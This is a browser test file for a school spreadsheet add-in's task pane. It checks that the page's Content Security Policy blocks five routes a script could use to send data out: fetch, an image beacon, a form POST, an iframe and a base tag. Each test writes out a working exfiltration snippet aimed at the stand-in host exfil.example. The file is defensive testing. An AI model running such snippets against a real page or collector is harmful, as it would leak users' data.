/**
 * Issue 11 item 8: every way out of the page a script could use to send the school's data elsewhere
 * is blocked by the page's CSP — fetch (connect-src), an image (img-src), a form POST (form-action),
 * a frame navigated elsewhere (frame-src), a <base> that reroutes relative URLs (base-uri) — proved
 * in Chromium: the browser reports the violation and no request to the other address reaches the
 * network layer.
 * (Top-level `location` navigation is not something CSP can block; docs/security.md says so.)
 */
import { afterEach, describe, expect, it } from 'vitest';
import { openSession, type Session } from './support/browser.js';
import { servedDist } from './support/staticServer.js';

const ELSEWHERE = 'https://exfil.example';

const RECORD_VIOLATIONS = `
  window.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.effectiveDirective));
`;

/** Each exit as a script run in the page; it resolves once the attempt has had its chance. */
const EXITS: [string, string, string][] = [
  ['fetch', 'connect-src', `fetch('${ELSEWHERE}/fetch?d=1', { method: 'POST', body: 'teachers' }).then(() => 'sent', () => 'blocked')`],
  ['an image', 'img-src', `new Promise((r) => { const i = new Image(); i.onload = () => r('sent'); i.onerror = () => r('blocked'); i.src = '${ELSEWHERE}/pixel.png?d=1'; })`],
  ['a form POST', 'form-action', `new Promise((r) => { const f = document.createElement('form'); f.method = 'post'; f.action = '${ELSEWHERE}/form'; const x = document.createElement('input'); x.name = 'd'; x.value = 'teachers'; f.appendChild(x); document.body.appendChild(f); f.submit(); setTimeout(() => r('tried'), 1500); })`],
  ['a frame navigated elsewhere', 'frame-src', `new Promise((r) => { const f = document.createElement('iframe'); f.src = '${ELSEWHERE}/frame?d=1'; document.body.appendChild(f); setTimeout(() => r('tried'), 1500); })`],
  ['a <base> rerouting relative URLs', 'base-uri', `new Promise((r) => { const b = document.createElement('base'); b.href = '${ELSEWHERE}/'; document.head.appendChild(b); setTimeout(() => r(document.baseURI), 500); })`],
];

describe('the page’s CSP closes every exit', () => {
  const origin = servedDist();
  let session: Session | null = null;

  afterEach(async () => {
    await session?.close();
    session = null;
  });

  it.each(EXITS)('%s is refused (%s)', async (_label, directive, attempt) => {
    session = await openSession('aborted', RECORD_VIOLATIONS);
    // Whatever reaches the network layer for the other address is caught here (and answered
    // locally): a request the CSP blocked never gets this far.
    const reached: string[] = [];
    await session.context.route(`${ELSEWHERE}/**`, (route) => {
      reached.push(route.request().url());
      return route.fulfill({ status: 204, body: '' });
    });
    const page = session.page;
    const home = `${origin()}/taskpane.html`;
    await page.goto(home);
    await page.getByRole('button', { name: '打开 .xlsx 文件' }).waitFor();
    const outcome = await page.evaluate(attempt);
    expect(outcome).not.toBe('sent');
    expect(await page.evaluate('window.__violations')).toContain(directive);
    expect(page.url()).toBe(home);
    expect(reached).toEqual([]);
  }, 60_000);
});
